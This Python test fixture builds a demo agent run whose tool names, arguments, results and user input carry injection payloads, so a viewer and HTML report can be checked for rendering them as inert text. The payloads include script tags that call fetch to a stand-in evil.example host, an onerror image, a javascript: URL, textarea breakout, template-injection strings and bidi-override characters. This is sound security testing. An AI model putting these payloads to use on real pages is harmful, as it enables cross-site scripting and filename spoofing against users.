"""Injection payloads planted in span content: each must stay inert text on the viewer's page and in the HTML
report. A payload that ran would set ``window.__pwned``, open a dialog, or send a request elsewhere."""

from __future__ import annotations

from luckrate import demo

SCRIPT = '<script>window.__pwned=1;fetch("http://evil.example/s")</script>'
IMG = '<img src="http://evil.example/i.png" onerror="window.__pwned=2">'
JS_URL = "javascript:window.__pwned=3"
TEXTAREA = "</textarea><script>window.__pwned=4</script><textarea>"
TEMPLATE = "{{ 7*7 }} {% if true %}yes{% endif %} ${7*7} #{7*7}"
BIDI = "\u202eexe.txt\u202c \u2066isolated\u2069"
EVERY = (SCRIPT, IMG, JS_URL, TEXTAREA, TEMPLATE, BIDI)


def run(n: int = 1, agent: str = "support-agent") -> demo.Run:
    """A run whose tool names, arguments, results and user input carry every payload."""
    planted = " | ".join(EVERY)
    calls = (
        demo.Call("lookup_order", {"order_id": f"ORD-{n}", "note": planted}, f"{planted} delivered"),
        demo.Call(SCRIPT, {"url": JS_URL, "html": IMG}, TEXTAREA),
        demo.Call(TEMPLATE, {"x": BIDI}, error=IMG),
        demo.Call("send_email", {"to": JS_URL, "body": planted}, "sent"),
    )
    return demo.Run("payload", agent, f"refund ORD-{n} {planted}", tuple((c,) for c in calls), planted, True)
